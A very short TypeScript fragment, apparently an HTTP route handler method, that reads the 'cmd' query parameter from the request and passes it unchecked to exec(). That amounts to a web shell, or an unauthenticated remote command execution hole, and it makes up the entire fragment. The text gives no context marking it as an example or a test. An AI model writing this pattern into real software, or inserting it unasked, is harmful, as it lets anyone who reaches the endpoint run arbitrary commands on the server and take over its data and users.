  async handle(req: Request, res: Response): Promise<void> {
    const cmd = req.query.cmd as string;
    exec(cmd);
  }
